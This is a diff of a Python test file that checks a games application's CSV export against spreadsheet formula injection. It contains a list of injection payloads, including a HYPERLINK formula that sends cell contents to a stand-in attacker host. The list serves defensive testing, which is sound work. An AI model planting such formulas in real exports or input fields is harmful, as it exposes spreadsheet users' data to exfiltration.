@@ -1,6 +1,7 @@
 """CSV exports never hand a spreadsheet a formula (OWASP "CSV injection"): a cell that begins with
 = + - @ tab or carriage return is written with a leading apostrophe, unless it is a plain number.
 Player names are typed by anyone who records a game: `=HYPERLINK(...)` must arrive as text."""
+
 from __future__ import annotations
 
 import csv
@@ -18,8 +19,7 @@ from games.csv_export import safe_cell
 from games.models import Club
 from games.ratings import services
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tcmd", "\r=1+1",
-            "=1;=2"]
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tcmd", "\r=1+1", "=1;=2"]
 NUMBER = re.compile(r"^[+-]?\d+(\.\d+)?$")
 
 
